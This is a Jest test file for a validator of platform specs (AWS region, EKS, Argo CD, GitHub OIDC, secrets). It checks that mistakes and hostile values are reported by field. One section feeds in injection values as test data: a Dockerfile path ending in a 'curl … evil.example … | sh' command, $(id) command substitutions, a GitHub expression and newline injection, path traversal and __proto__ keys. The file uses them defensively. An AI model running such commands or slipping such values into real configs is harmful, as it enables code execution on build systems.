import { readFileSync } from 'fs';
import { BUILT_IN_ADDONS } from '../../lib/addons/built-in';
import { validateSpec } from '../../lib/model/validate';
import { PlatformSpecError, PlatformSpecLoader } from '../../lib/platform/loader';
import { repoPath, sandboxSpec, specWithTenMistakes, TEN_MISTAKE_PATHS, twoEnvironmentsSpec } from '../fixtures';

/** The problems of a spec after `mutate`, as `path: message` lines. */
function problemsAfter(mutate: (spec: any) => void): string[] {
  const spec = sandboxSpec();
  mutate(spec);
  return validateSpec(spec, BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`);
}

/** Asserts that `mutate` yields exactly one problem, at `path`, whose message matches `message`. */
function expectOneProblem(mutate: (spec: any) => void, path: string, message: RegExp) {
  const problems = problemsAfter(mutate);
  expect(problems).toHaveLength(1);
  expect(problems[0].startsWith(`${path}: `)).toBe(true);
  expect(problems[0]).toMatch(message);
}

describe('the sandbox spec', () => {
  test('is valid', () => {
    expect(validateSpec(sandboxSpec(), BUILT_IN_ADDONS)).toEqual([]);
  });
});

describe('field rules', () => {
  test.each([
    ['a required field is missing', (s: any) => delete s.dns.hostedZoneId, 'dns.hostedZoneId', /is required/],
    ['an unknown field (a typo)', (s: any) => (s.apps[0].replica = 3), 'apps[0].replica', /unknown field; allowed here: .*replicas/],
    ['a namespace that is not a DNS label', (s: any) => (s.apps[0].namespace = 'Main'), 'apps[0].namespace', /'Main' is not a DNS-1123 label/],
    ['a platform name over 20 characters', (s: any) => (s.name = 'a'.repeat(21)), 'name', /21 characters; at most 20/],
    ['a malformed region', (s: any) => (s.aws.region = 'tokyo'), 'aws.region', /'tokyo' is not allowed; use an AWS region such as ap-northeast-1/],
    ['a malformed account', (s: any) => (s.aws.account = '1234'), 'aws.account', /not a 12-digit AWS account id/],
    ['an account given as a number', (s: any) => (s.aws.account = 123456789012), 'aws.account', /expected a string, got the number 123456789012/],
    ['an unsupported Kubernetes version', (s: any) => (s.cluster.version = '1.20'), 'cluster.version', /'1.20' is not allowed; use one of 1.32, 1.33, 1.34, 1.35, 1.36/],
    ['a port out of range', (s: any) => (s.apps[0].containers[0].port = 70000), 'apps[0].containers[0].port', /70000 is above the maximum 65535/],
    ['a fractional replica count', (s: any) => (s.apps[0].replicas = 1.5), 'apps[0].replicas', /expected a whole number/],
    ['an unknown delivery mode', (s: any) => (s.apps[0].delivery = 'push'), 'apps[0].delivery', /'push' is not allowed; use one of image-updater, pull-request, argocd-cli/],
    ['an unknown strategy', (s: any) => (s.apps[0].imageUpdate.strategy = 'latest'), 'apps[0].imageUpdate.strategy', /use one of semver, newest-build, digest, alphabetical/],
    ['an empty app list', (s: any) => (s.apps = []), 'apps', /needs at least 1 entry/],
    ['apps given as a mapping', (s: any) => (s.apps = { main: {} }), 'apps', /expected a list, got a mapping/],
    ['a bad environment variable name', (s: any) => (s.apps[0].containers[0].env = { 'BAD-NAME': 'x' }), 'apps[0].containers[0].env.BAD-NAME', /not an environment variable name/],
    ['a hosted zone id in lowercase', (s: any) => (s.dns.hostedZoneId = 'z123'), 'dns.hostedZoneId', /not a Route 53 hosted zone id/],
    ['a memory quantity without a number', (s: any) => (s.apps[0].containers[0].resources = { memoryLimit: 'lots' }), 'apps[0].containers[0].resources.memoryLimit', /'lots' is not a memory quantity/],
    ['a branch with a wildcard', (s: any) => (s.apps[0].ci.branches = ['release/*']), 'apps[0].ci.branches[0]', /not a plain branch or environment name/],
    ['an OIDC provider ARN for another issuer', (s: any) => (s.github.oidcProviderArn = 'arn:aws:iam::123456789012:oidc-provider/example.com'), 'github.oidcProviderArn', /token.actions.githubusercontent.com/],
  ])('%s', (_name, mutate, path, message) => {
    expectOneProblem(mutate, path, message);
  });

  test('a document that is not a mapping is reported as such', () => {
    expect(validateSpec(['not', 'a', 'spec'], BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`)).toEqual([
      '(document): expected a mapping of fields, got a list',
    ]);
  });
});

describe('rules across fields', () => {
  test.each([
    ['duplicate app names', (s: any) => s.apps.push({ ...s.apps[0], namespace: 'other', host: 'o.example.com' }), 'apps[1].name', /'main' is already the name of apps\[0\]/],
    ['two apps in one namespace', (s: any) => s.apps.push({ ...s.apps[0], name: 'other', host: 'o.example.com', migration: undefined, ingress: undefined, containers: [{ name: 'x', port: 80 }] }), 'apps[1].namespace', /'main' is already the namespace of apps\[0\]/],
    ['an app in the Argo CD namespace', (s: any) => (s.apps[0].namespace = 'argocd'), 'apps[0].namespace', /'argocd' is reserved/],
    ['a host outside the domain', (s: any) => (s.apps[0].host = 'sandbox.example.org'), 'apps[0].host', /not under dns.domain 'example.com'/],
    ['a host that only ends with the domain text', (s: any) => (s.apps[0].host = 'notexample.com'), 'apps[0].host', /not under dns.domain/],
    ['the latest tag', (s: any) => (s.apps[0].containers[0].tag = 'latest'), 'apps[0].containers[0].tag', /'latest' is not allowed/],
    ['duplicate container names', (s: any) => { s.apps[0].containers[1].name = 'app'; s.apps[0].ingress.container = 'app'; }, 'apps[0].containers[1].name', /already the name of containers\[0\]/],
    ['an Ingress to a missing container', (s: any) => (s.apps[0].ingress.container = 'nginx'), 'apps[0].ingress.container', /'nginx' is not a container of this app; use one of app, web/],
    ['an Ingress to a container without a port', (s: any) => delete s.apps[0].containers[1].port, 'apps[0].ingress.container', /'web' has no port/],
    ['no container with a port', (s: any) => { delete s.apps[0].ingress; s.apps[0].containers.forEach((c: any) => delete c.port); }, 'apps[0].containers', /no container has a port/],
    ['a secret env key not in the secret', (s: any) => (s.apps[0].containers[0].secretEnv.DB_HOST = 'hostname'), 'apps[0].containers[0].secretEnv.DB_HOST', /'hostname', which is not in apps\[0\].secret.keys/],
    ['secret env without a secret', (s: any) => { delete s.apps[0].secret; delete s.apps[0].migration.secretEnv; s.apps[0].containers[0].secretEnv = { A: 'a' }; }, 'apps[0].containers[0].secretEnv.A', /the app has no secret/],
    ['a secret key listed twice', (s: any) => s.apps[0].secret.keys.push('host'), 'apps[0].secret.keys', /'host' is listed twice/],
    ['a remote key outside the app prefix', (s: any) => (s.apps[0].secret.remoteKey = 'database-secrets'), 'apps[0].secret.remoteKey', /outside the prefix 'sandbox\/main\/'/],
    ['a tag pattern matching every tag', (s: any) => (s.apps[0].ci.tagPatterns = ['*']), 'apps[0].ci.tagPatterns[0]', /matches every tag/],
    ['a CI role nobody may assume', (s: any) => (s.apps[0].ci.tagPatterns = []), 'apps[0].ci', /no tag pattern, branch, environment or pull request/],
    ['the immutable subject form without the owner id', (s: any) => delete s.github.ownerId, 'github.ownerId', /is required by apps\[0\].ci \(immutable OIDC subject form\); find it with 'gh api repos\/example-org\/sandbox-app --jq .owner.id'/],
    ['image update settings with another delivery', (s: any) => (s.apps[0].delivery = 'pull-request'), 'apps[0].imageUpdate', /applies only to delivery 'image-updater'/],
    ['an invalid allowTags expression', (s: any) => (s.apps[0].imageUpdate.allowTags = '^v(1'), 'apps[0].imageUpdate.allowTags', /not a valid regular expression/],
    ['a shared ECR repository', (s: any) => (s.apps[0].containers[1].repository = 'sandbox/main/app'), 'apps[0].containers[1].repository', /'sandbox\/main\/app' is already used by apps\[0\].containers\[0\].repository/],
    ['an app named like a platform Application', (s: any) => (s.apps[0].name = 'argocd-image-updater'), 'apps[0].name', /'argocd-image-updater' is the name of a platform Argo CD Application/],
    ['an app named like another app secrets Application', (s: any) => s.apps.push({ name: 'main-secrets', host: 'x.example.com', ci: { repository: 'x', repositoryId: '3' }, containers: [{ name: 'x', port: 80 }] }), 'apps[1].name', /the secrets of app 'main'/],
    ['digest updates with a migration', (s: any) => (s.apps[0].imageUpdate.strategy = 'digest'), 'apps[0].imageUpdate.strategy', /no tag for the migration to follow/],
    ['minSize above maxSize', (s: any) => (s.cluster.nodes = { minSize: 5, maxSize: 3, desiredSize: 4 }), 'cluster.nodes.minSize', /5 is larger than maxSize 3/],
    ['a Vault backend without Vault settings', (s: any) => (s.secrets = { backend: 'vault' }), 'secrets.vault', /is required when secrets.backend is 'vault'/],
    ['Vault settings with the Secrets Manager backend', (s: any) => (s.secrets = { vault: { address: 'https://vault:8200' } }), 'secrets.vault', /secrets.backend is 'secrets-manager'/],
    ['the vault plugin with a managed Argo CD', (s: any) => { s.secrets = { backend: 'vault-plugin', vault: { address: 'https://vault:8200' } }; s.argocd = { managed: true, identityCenter: { instanceArn: 'arn:aws:sso:::instance/ssoins-0123456789abcdef' } }; s.apps[0].migration.deadlineSeconds = 90; }, 'secrets.backend', /runs no config management plugins/],
    ['a managed Argo CD without Identity Center', (s: any) => { s.argocd = { managed: true }; s.apps[0].migration.deadlineSeconds = 90; }, 'argocd.identityCenter', /is required when argocd.managed is true/],
    ['Identity Center without a managed Argo CD', (s: any) => (s.argocd = { identityCenter: { instanceArn: 'arn:aws:sso:::instance/ssoins-0123456789abcdef' } }), 'argocd.identityCenter', /applies only to the managed Argo CD/],
    ['a malformed Identity Center instance ARN', (s: any) => { s.argocd = { managed: true, identityCenter: { instanceArn: 'ssoins-1' } }; s.apps[0].migration.deadlineSeconds = 90; }, 'argocd.identityCenter.instanceArn', /not an IAM Identity Center instance ARN/],
    ['prune without automated sync', (s: any) => (s.argocd = { syncPolicy: { automated: false, prune: true } }), 'argocd.syncPolicy.prune', /needs automated: true/],
  ])('%s', (_name, mutate, path, message) => {
    expectOneProblem(mutate, path, message);
  });
});

describe('reporting', () => {
  test('ten mistakes give ten messages in one error, each naming its field', () => {
    const spec = specWithTenMistakes();

    let error: PlatformSpecError | undefined;
    try {
      PlatformSpecLoader.fromObject(spec, 'platform.yaml');
    } catch (e) {
      error = e as PlatformSpecError;
    }
    expect(error).toBeInstanceOf(PlatformSpecError);
    expect(error!.problems.map((p) => p.path)).toEqual(TEN_MISTAKE_PATHS);
    expect(error!.message.split('\n')[0]).toBe('platform.yaml: 10 problems');
    expect(error!.message).toContain("  - apps[0].namespace: 'Main' is not a DNS-1123 label");
  });
});

describe('hostile input is refused with the field and the value named', () => {
  test.each([
    ['a Dockerfile path with a shell command', (s: any) => (s.apps[0].containers[0].dockerfile = 'Dockerfile; curl -s https://evil.example/x | sh #'), 'apps[0].containers[0].dockerfile'],
    ['a Dockerfile path with a GitHub expression', (s: any) => (s.apps[0].containers[0].dockerfile = '${{ github.event.head_commit.message }}'), 'apps[0].containers[0].dockerfile'],
    ['a Dockerfile path with a newline', (s: any) => (s.apps[0].containers[0].dockerfile = 'Dockerfile\nrun: echo injected'), 'apps[0].containers[0].dockerfile'],
    ['a migration Dockerfile path with a command substitution', (s: any) => (s.apps[0].migration.dockerfile = 'x$(id)'), 'apps[0].migration.dockerfile'],
    ['a Dockerfile path outside the repository', (s: any) => (s.apps[0].containers[0].dockerfile = '../secrets/Dockerfile'), 'apps[0].containers[0].dockerfile'],
    ['a Vault address with a shell payload', (s: any) => (s.secrets = { backend: 'vault', vault: { address: 'https://vault";$(id);"' } }), 'secrets.vault.address'],
    ['a region that does not exist', (s: any) => (s.aws.region = 'zz-nowhere-7'), 'aws.region'],
    ['a host label of 64 characters', (s: any) => (s.apps[0].host = `${'a'.repeat(64)}.example.com`), 'apps[0].host'],
    ['an empty migration command', (s: any) => (s.apps[0].migration.command = ['']), 'apps[0].migration.command[0]'],
    ['a 5 MB environment value', (s: any) => (s.apps[0].containers[0].env = { BIG: 'x'.repeat(5 * 1024 * 1024) }), 'apps[0].containers[0].env.BIG'],
    ['a VPC CIDR with an octet above 255', (s: any) => (s.cluster.vpcCidr = '999.10.0.0/16'), 'cluster.vpcCidr'],
  ])('%s', (_name, mutate, path) => {
    const problems = problemsAfter(mutate);
    expect(problems).toHaveLength(1);
    expect(problems[0].startsWith(`${path}: `)).toBe(true);
    // One line, however hostile the value: newlines are shown escaped and long values cut.
    expect(problems[0]).not.toContain('\n');
    expect(problems[0].length).toBeLessThan(400);
  });

  test('a real path with a space is a valid Dockerfile path', () => {
    expect(problemsAfter((s) => (s.apps[0].containers[0].dockerfile = 'docker/my app.Dockerfile'))).toEqual([]);
  });

  test.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])('%s is refused as a field name at the top, in an app and as an env key', (key) => {
    const spec = sandboxSpec();
    // Defined as own properties, the way a YAML or JSON parser produces them.
    Object.defineProperty(spec, key, { value: { polluted: true }, enumerable: true });
    Object.defineProperty(spec.apps[0], key, { value: 'x', enumerable: true });
    Object.defineProperty(spec.apps[0].containers[0].env ?? (spec.apps[0].containers[0].env = {}), key, { value: 'x', enumerable: true });
    const problems = validateSpec(spec, BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`);
    expect(problems).toEqual([
      `${key}: '${key}' is not allowed as a field name`,
      `apps[0].${key}: '${key}' is not allowed as a field name`,
      `apps[0].containers[0].env.${key}: '${key}' is not allowed as a key`,
    ]);
  });
});

describe('output that would break at run time is refused', () => {
  const secondApp = (s: any, extra: any = {}) =>
    s.apps.push({ name: 'admin', host: 'admin.example.com', ci: { repository: 'admin', repositoryId: '7' }, containers: [{ name: 'web', port: 8080 }], ...extra });

  test.each([
    // aws-load-balancer-controller v3.5.0 pkg/ingress/model_build_load_balancer.go: "conflicting scheme"
    // fails the whole IngressGroup when its members' explicit schemes differ.
    ['an internal app in an internet-facing app\'s ALB group', (s: any) => secondApp(s, { ingress: { internetFacing: false, groupName: 'sandbox' } }), 'apps[1].ingress.groupName', /the ALB group of apps\[0\], which is internet-facing; .*disagree on the scheme/],
    ['two apps on one host', (s: any) => secondApp(s, { host: 'sandbox.example.com' }), 'apps[1].host', /already the host of apps\[0\]; .*ExternalDNS/],
    ['two containers on one port', (s: any) => (s.apps[0].containers[1].port = 8080), 'apps[0].containers[1].port', /8080 is already the port of containers\[0\]/],
    ['one variable in env and secretEnv', (s: any) => (s.apps[0].containers[0].env = { DB_HOST: 'x' }), 'apps[0].containers[0].secretEnv.DB_HOST', /also set in env/],
    ['a tag pattern starting with a wildcard', (s: any) => (s.apps[0].ci.tagPatterns = ['*.*']), 'apps[0].ci.tagPatterns[0]', /starts with a wildcard, so tags of any name match it/],
    ['repository names that differ only by case', (s: any) => secondApp(s, { ci: { repository: 'Sandbox-App', repositoryId: '7' } }), 'apps[1].ci.repository', /names the same GitHub repository as apps\[0\].ci.repository \('sandbox-app'\)/],
    ['app names that give the same CloudFormation outputs', (s: any) => { s.apps[0].name = 'web-1'; secondApp(s, { name: 'web1' }); }, 'apps[1].name', /'web1' and 'web-1' \(apps\[0\]\) give the same CloudFormation output names \(Web1CiRoleArn/],
    ['a VPC CIDR with host bits set', (s: any) => (s.cluster.vpcCidr = '10.0.0.1/16'), 'cluster.vpcCidr', /has host bits set; .* write 10.0.0.0\/16/],
    ['a Vault remote key leaving the app path', (s: any) => { s.secrets = { backend: 'vault', vault: { address: 'https://vault.example.com:8200' } }; s.apps[0].secret.remoteKey = '../../other-team/db'; }, 'apps[0].secret.remoteKey', /'\.\.' segment/],
    ['a Vault remote key of another app', (s: any) => { s.secrets = { backend: 'vault', vault: { address: 'https://vault.example.com:8200' } }; s.apps[0].secret.remoteKey = 'other-team/db'; }, 'apps[0].secret.remoteKey', /outside the app's Vault path 'main\/main'/],
    ['the stack name of the platform stack', (s: any) => (s.apps[0].stack = 'platform'), 'apps[0].stack', /would name the platform stack sandbox-platform/],
    ['a wildcard action for the migration', (s: any) => (s.apps[0].migration.permissions = [{ actions: ['s3:*'], resources: ['arn:aws:s3:::b/*'] }]), 'apps[0].migration.permissions[0].actions[0]', /'s3:\*' has a wildcard/],
    ['repository credentials on a public repository', (s: any) => (s.github.manifestRepository.access = 'public'), 'github.manifestRepository.credentials', /applies only to a private repository/],
    ['repository credentials outside the readable prefix', (s: any) => (s.github.manifestRepository.credentials.secretName = 'team/creds'), 'github.manifestRepository.credentials.secretName', /outside the prefix 'sandbox\/argocd\/'/],
    ['an OIDC provider of another account', (s: any) => (s.github.oidcProviderArn = 'arn:aws:iam::999999999999:oidc-provider/token.actions.githubusercontent.com'), 'github.oidcProviderArn', /in account 999999999999, not in aws.account 123456789012/],
    ['node types of two architectures', (s: any) => (s.cluster.nodes.instanceTypes = ['t3.medium', 'm7g.large']), 'cluster.nodes.instanceTypes', /mix x86_64 and arm64/],
  ])('%s', (_name, mutate, path, message) => {
    expectOneProblem(mutate, path, message);
  });

  test('internal and internet-facing apps get ALB groups of their own by default', () => {
    expect(problemsAfter((s) => secondApp(s, { ingress: { internetFacing: false } }))).toEqual([]);
  });

  test('two apps built from one repository (a monorepo) are accepted', () => {
    expect(problemsAfter((s) => secondApp(s, { ci: { repository: 'sandbox-app', repositoryId: '200000001' } }))).toEqual([]);
  });
});

describe('every problem at once', () => {
  test('the rules across fields run even when some fields have problems of their own', () => {
    const problems = problemsAfter((s) => {
      s.aws.region = 'tokyo'; // a field's own rule
      s.apps[0].replicas = 'two'; // a field's own rule, in the app the next line checks
      s.apps[0].containers[0].env = { DB_HOST: 'x' }; // a rule across fields
      s.argocd = { syncPolicy: { automated: false, prune: true } }; // a rule across fields
    });
    expect(problems.map((p) => p.split(':')[0])).toEqual(['aws.region', 'apps[0].replicas', 'argocd.syncPolicy.prune', 'apps[0].containers[0].secretEnv.DB_HOST']);
  });

  test('a field with its own problem is not blamed again by a rule across fields', () => {
    const problems = problemsAfter((s) => {
      s.argocd = { managed: true, identityCenter: { instanceArn: 'ssoins-1' } };
      s.apps[0].migration.deadlineSeconds = 90;
    });
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^argocd.identityCenter.instanceArn: /);
  });
});

describe('hostile entries deep in a list are field problems, listed with the others', () => {
  const problemsOf = (spec: any) => validateSpec(spec, BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`);

  test.each([
    ['a migration permission written as IAM JSON (Action, Resource: "*")', (s: any) => (s.apps[0].migration.permissions = [{ Action: '*', Resource: '*' }]), [
      "apps[0].migration.permissions[0].Action: unknown field; allowed here: actions, resources; did you mean 'actions'?",
      "apps[0].migration.permissions[0].Resource: unknown field; allowed here: actions, resources; did you mean 'resources'?",
      'apps[0].migration.permissions[0].actions: is required: IAM actions',
      'apps[0].migration.permissions[0].resources: is required: Resource ARNs',
    ]],
    ['a migration permission with NotAction', (s: any) => (s.apps[0].migration.permissions = [{ NotAction: ['iam:*'], actions: ['*'], resources: ['arn:aws:s3:::x'] }]), [
      'apps[0].migration.permissions[0].NotAction: unknown field; allowed here: actions, resources',
      "apps[0].migration.permissions[0].actions[0]: '*' is not an IAM action such as rds-db:connect",
    ]],
  ])('%s', (_name, mutate, expected) => {
    const spec = sandboxSpec();
    mutate(spec);
    // A mistake across fields elsewhere is still reported (the rules across fields ran).
    spec.cluster.nodes.minSize = 5;
    expect(problemsOf(spec)).toEqual([...expected, 'cluster.nodes.minSize: 5 is larger than maxSize 4']);
  });

  test("an environment's container without a name", () => {
    const spec = twoEnvironmentsSpec();
    spec.environments[1].apps[0].containers = [{ resources: { cpuRequest: '1' } }];
    spec.environments[0].apps[0].replicas = 0.5;
    expect(problemsOf(spec)).toEqual([
      'environments[0].apps[0].replicas: expected a whole number, got the number 0.5',
      'environments[1].apps[0].containers[0].name: is required: Container name (apps[].containers[].name)',
    ]);
  });

  test('an empty argocd.hub (YAML null) is refused, not read as absent', () => {
    const spec = twoEnvironmentsSpec();
    spec.argocd = { managed: true, identityCenter: { instanceArn: 'arn:aws:sso:::instance/ssoins-0123456789abcdef' }, hub: null };
    expect(problemsOf(spec)).toEqual(['argocd.hub: is empty (a key with no value is null in YAML); give a value, or remove the key to use the default']);
  });

  test('a problem inside an app adds no false "is not an application" for its overrides', () => {
    const spec = twoEnvironmentsSpec();
    spec.apps[0].host = 5;
    expect(problemsOf(spec)).toEqual(["apps[0].host: expected a string, got the number 5; put it in quotes, as written (host: '5'): unquoted, YAML reads it as a number"]);
  });
});

describe('the loader reads what validation read', () => {
  test('an empty YAML key (argocd.hub:) fails the load, naming the field', () => {
    const text = readFileSync(repoPath('examples', 'two-environments', 'platform.yaml'), 'utf8') +
      '\nargocd:\n  managed: true\n  hub:\n  identityCenter:\n    instanceArn: arn:aws:sso:::instance/ssoins-0123456789abcdef\n';
    expect(() => PlatformSpecLoader.fromText(text, 'platform.yaml')).toThrow(
      new PlatformSpecError('platform.yaml', [{ path: 'argocd.hub', message: 'is empty (a key with no value is null in YAML); give a value, or remove the key to use the default' }]),
    );
  });
});

describe('reserved Application names with environments', () => {
  /** The two-environment spec with its one app renamed, in apps[] and in every environments[].apps[]. */
  function renamed(name: string): any {
    const spec: any = twoEnvironmentsSpec();
    spec.apps[0].name = name;
    for (const environment of spec.environments) for (const app of environment.apps ?? []) app.name = name;
    return spec;
  }

  test('an app named like a platform Application is allowed when its environment-qualified Application name differs', () => {
    // Its Applications are argocd-image-updater-staging and argocd-image-updater-production.
    expect(validateSpec(renamed('argocd-image-updater'), BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`)).toEqual([]);
  });

  test('an app whose environment-qualified Application name is a platform Application is refused', () => {
    const spec = renamed('argocd-image');
    spec.environments[0].name = 'updater';
    spec.registry.environment = 'updater';
    const problems = validateSpec(spec, BUILT_IN_ADDONS).map((p) => `${p.path}: ${p.message}`);
    expect(problems).toHaveLength(1);
    expect(problems[0]).toMatch(/^apps\[0\]\.name: makes Argo CD Application 'argocd-image-updater' both the Application of app 'argocd-image' in environment 'updater' and a platform Application/);
  });
});
